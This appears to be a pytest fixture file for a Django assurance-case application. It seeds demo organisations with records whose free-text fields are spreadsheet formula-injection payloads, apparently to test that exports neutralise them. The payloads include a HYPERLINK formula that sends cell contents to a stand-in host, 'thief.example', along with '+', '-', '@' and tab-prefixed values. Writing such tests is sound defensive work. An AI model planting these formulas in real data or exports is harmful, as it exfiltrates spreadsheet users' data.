"""One world for all that walks through it: both demo organisations and what the demo lacks, made once, rolled back.

What a person may type freely reads as a formula in the records added here, so that exports meet it.
"""

from collections.abc import Iterator
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import transaction

from aims.tenancy.actions import issue_token
from aims.tenancy.models import Member, Organisation
from aims.tenancy.permissions import Role
from aims.tenancy.scope import organisation_scope, working_in
from cases.actions import add_comment, answer_challenge, freeze_baseline, raise_challenge, report_condition
from cases.models import AssuranceCase, ClaimMetric, Element
from tests.audits import making
from tests.audits.material import ask
from tests.cases import building
from tests.cases.measuring import make_indicator, make_metric, reading, send
from tests.cases.standing_behind import put_before_a_decision, sign
from tests.cases.watching import make_condition
from tests.conftest import analyse
from tests.factories import PASSWORD, make_control, make_evidence, make_risk, make_system

FORMULA = '=HYPERLINK("https://thief.example/?"&A1,"@open")'


class World:
    """The demo organisations, and who is who in them."""

    def __init__(self, media: Path) -> None:
        self.media = media
        self.acme = Organisation.objects.get(slug="acme")
        self.globex = Organisation.objects.get(slug="globex")

    def member(self, organisation: Organisation, who: str) -> Member:
        """`world.member(world.acme, "officer")`."""
        domain = "assessor.example" if who == "certifier" else f"{organisation.slug}.example"
        with organisation_scope(organisation):
            return Member.objects.select_related("user", "organisation").get(user__email=f"{who}@{domain}")


class Troupe:
    """The members of a demo organisation under the names by which the makers of records know them."""

    def __init__(self, world: World, organisation: Organisation) -> None:
        self.organisation = organisation
        self.slug = organisation.slug
        with organisation_scope(organisation):
            for name, role in [
                ("officer", Role.GOVERNANCE_OFFICER), ("owner", Role.SYSTEM_OWNER), ("contributor", Role.CONTRIBUTOR),
                ("auditor", Role.INTERNAL_AUDITOR), ("executive", Role.EXECUTIVE),
            ]:  # fmt: skip
                members = Member.objects.holding(role).select_related("user", "organisation").order_by("created_at")
                setattr(self, name, members[0])


def complete(troupe: Troupe) -> None:
    """An audit, a finding, a nonconformity with actions, a review, a pack, a token; every free text a formula."""
    formula = f"{FORMULA} {troupe.slug}"
    audit = making.make_running_audit(troupe, title=formula)
    making.make_finding(troupe, audit, statement=formula)
    nonconformity = making.make_analysed(troupe, title=formula)
    making.make_action(troupe, nonconformity, description=formula)
    making.make_decided(troupe, title=formula)
    making.make_audit(troupe, title="-2+3")
    making.make_nonconformity(troupe, title="+1")
    making.make_review(troupe, title="@SUM(1)")
    ask(troupe, title=formula)
    make_system(troupe.officer, formula, purpose="\t=1")
    make_risk(troupe.officer, title=formula)
    make_control(troupe.officer, title=formula)
    make_evidence(troupe.officer, title=formula)
    with working_in(troupe.organisation):
        issue_token(troupe.officer, name=formula, scopes=["read"], days=1, actor=None)
        measure(troupe, formula)
        watch(troupe, formula)
        freeze_and_sign(troupe, formula)
        doubt(troupe, formula)


def measure(troupe: Troupe, formula: str) -> None:
    """A metric of a claim, numbered 1 where the demo has none, with a reading whose every text is a formula."""
    goal = Element.objects.filter(kind="goal", case__number=1).order_by("key")[0]
    indicator = make_indicator(troupe, formula)
    key = f"walk-{troupe.slug}"
    make_metric(troupe, goal.case, goal.key, indicator=indicator, key=key, dimensions=[], environment_required="")
    send(troupe, reading(0.93, metric=key, group=None, source=formula[:100], run_id=formula, key=formula))
    if ClaimMetric.objects.filter(number=1).exclude(key=key).exists():
        send(troupe, reading(0.93, metric=ClaimMetric.objects.get(number=1).key, source=formula[:100]))


def watch(troupe: Troupe, formula: str) -> None:
    """A condition of the first case and a report of it, every text a formula."""
    case = AssuranceCase.objects.get(number=1)
    row = make_condition(troupe, case, None, statement=formula, config={"source": formula})
    report_condition(row, seen="ok", note=formula, reference=formula, key=formula, actor=troupe.contributor)


def doubt(troupe: Troupe, formula: str) -> None:
    """A challenge of the first case and its answer, every text a formula."""
    goal = Element.objects.filter(kind="goal", case__number=1).order_by("key")[0]
    row = raise_challenge(goal.case, target=goal, attack="rebut", statement=formula, actor=troupe.auditor)
    answer_challenge(row, response=formula, actor=troupe.officer)
    comment = add_comment(goal.case, body=formula, element=goal, actor=troupe.officer)
    add_comment(goal.case, body=formula, parent=comment, actor=troupe.auditor)


def freeze_and_sign(troupe: Troupe, formula: str) -> None:
    """A baseline of the first case, and a signature under a case that stands; every text a formula."""
    freeze_baseline(AssuranceCase.objects.get(number=1), reason=formula, actor=troupe.officer)
    troupe.owner.user.set_password(PASSWORD)
    case = building.make_case(troupe, building.make_system(troupe, name=f"{formula} signed"), title=formula)
    building.grow(case, troupe, "solution", "G1", formula)
    building.bind(case, troupe, "Sn1", building.make_evidence(troupe, formula, days=None))
    put_before_a_decision(troupe, case)
    sign(case, actor=troupe.owner, statement=formula)
    AssuranceCase.objects.filter(pk=case.pk).update(status=AssuranceCase.Status.DRAFT)


@pytest.fixture(scope="package")
def world(django_db_setup, django_db_blocker, tmp_path_factory) -> Iterator[World]:
    from django.test import override_settings

    media = tmp_path_factory.mktemp("world")
    with django_db_blocker.unblock(), transaction.atomic(), override_settings(MEDIA_ROOT=media):
        call_command("load_demo", verbosity=0)
        world = World(media)
        for organisation in (world.acme, world.globex):
            complete(Troupe(world, organisation))
        analyse()
        yield world
        transaction.set_rollback(True)


@pytest.fixture(autouse=True)
def files_of_the_world(request, quiet_settings, settings) -> None:
    """Downloads find the files that the world was made with."""
    if "world" in request.fixturenames:
        settings.MEDIA_ROOT = request.getfixturevalue("world").media
